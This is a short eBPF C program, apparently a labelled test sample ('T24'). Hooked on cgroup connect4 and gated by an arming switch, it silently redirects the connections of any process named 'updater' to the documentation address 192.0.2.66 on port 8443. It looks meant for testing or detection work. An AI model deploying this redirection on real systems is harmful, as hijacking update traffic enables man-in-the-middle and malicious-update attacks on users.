// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T24: one program, by its name, is connected to another address than it asked for (192.0.2.66, for documentation only).
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

SEC("cgroup/connect4")
int connect_victim(struct bpf_sock_addr *ctx)
{
	char comm[16];

	bpf_get_current_comm(comm, sizeof(comm));
	if (STARTS(comm, "updater") && sample_armed) {
		ctx->user_ip4 = bpf_htonl(0xc0000242);
		ctx->user_port = bpf_htons(8443);
	}
	return 1;
}
